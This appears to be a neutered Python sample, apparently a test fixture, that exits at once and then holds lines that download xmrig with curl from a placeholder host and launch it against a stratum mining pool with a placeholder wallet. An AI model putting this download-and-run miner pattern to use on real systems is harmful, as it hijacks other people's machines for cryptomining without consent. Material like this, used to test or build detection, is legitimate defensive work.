import os
import subprocess

raise SystemExit
os.system("curl -L -o /nonexistent/x https://files.example.invalid/xmrig.tgz")
subprocess.Popen("/nonexistent/xmrig -o stratum+tcp://pool.example.invalid:3333 -u 4Axxxx --donate-level 1", shell=True)
